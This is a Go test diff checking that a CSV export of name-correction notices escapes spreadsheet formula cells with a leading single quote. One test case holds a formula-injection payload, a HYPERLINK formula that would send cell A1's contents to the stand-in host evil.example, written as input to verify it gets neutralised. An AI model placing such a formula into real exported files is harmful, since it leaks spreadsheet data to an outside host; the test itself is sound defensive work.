@@ -207,3 +207,44 @@ func readTopic(t *testing.T, addr, topic string, partitions int) []string {
 	}
 	return out
 }
+
+// TestNoticesCSVSpreadsheetSafe: a cell a spreadsheet would take for a
+// formula is written with a single quote before it (record IDs come from
+// the sources as they are); other cells are written as they are.
+func TestNoticesCSVSpreadsheetSafe(t *testing.T) {
+	at := time.Date(2026, 11, 1, 9, 0, 0, 0, time.UTC)
+	for _, c := range []struct {
+		name       string
+		records    []string
+		given      string
+		want, cell string // want: the cell read back from column cell
+	}{
+		{"plain", []string{"TEN0003042-01"}, "Anne", "TEN0003042-01", "record_ids"},
+		{"equals", []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`}, "Anne", `'=HYPERLINK("http://evil.example/?"&A1,"x")`, "record_ids"},
+		{"plus", []string{"+44"}, "Anne", "'+44", "record_ids"},
+		{"minus", []string{"-1", "X"}, "Anne", "'-1;X", "record_ids"},
+		{"at", []string{"@SUM(A1)"}, "Anne", "'@SUM(A1)", "record_ids"},
+		{"tab", []string{"\t=1"}, "Anne", "'\t=1", "record_ids"},
+		{"carriage return", []string{"\r=1"}, "Anne", "'\r=1", "record_ids"},
+		{"inner equals kept", []string{"A=1"}, "Anne", "A=1", "record_ids"},
+		{"a name too", []string{"H1"}, "=1+1", "'=1+1", "given"},
+	} {
+		msg := resindex.NoticeMessage{Seq: 1, IssuedAt: at, Source: "housing", Records: c.records, Person: "P0000000001",
+			Field: "name", Name: &resindex.CorrectedName{Given: c.given, Family: "Lee"}}
+		var b bytes.Buffer
+		if err := writeNoticesCSV(&b, []resindex.NoticeMessage{msg}); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&b).ReadAll()
+		if err != nil || len(rows) != 2 {
+			t.Fatalf("%s: %d rows, %v", c.name, len(rows), err)
+		}
+		col := slices.Index(rows[0], c.cell)
+		if got := rows[1][col]; got != c.want {
+			t.Errorf("%s: %s %q; want %q", c.name, c.cell, got, c.want)
+		}
+		if rows[1][0] != "1" || rows[1][1] != "2026-11-01T09:00:00Z" || rows[1][slices.Index(rows[0], "family")] != "Lee" {
+			t.Errorf("%s: other cells changed: %q", c.name, rows[1])
+		}
+	}
+}
